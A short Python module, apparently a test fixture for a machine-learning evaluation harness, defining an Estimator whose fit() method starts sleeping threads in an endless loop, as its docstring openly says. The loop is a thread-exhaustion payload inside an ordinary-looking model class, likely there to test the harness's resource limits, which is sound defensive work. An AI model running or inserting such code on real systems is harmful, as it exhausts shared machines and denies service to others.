"""Starts threads until nothing is left."""

import threading
import time

import numpy as np


class Estimator:
    def fit(self, X, y):
        while True:
            threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
        return self

    def predict(self, X):
        return np.zeros(len(X))


def get_estimator():
    return Estimator()
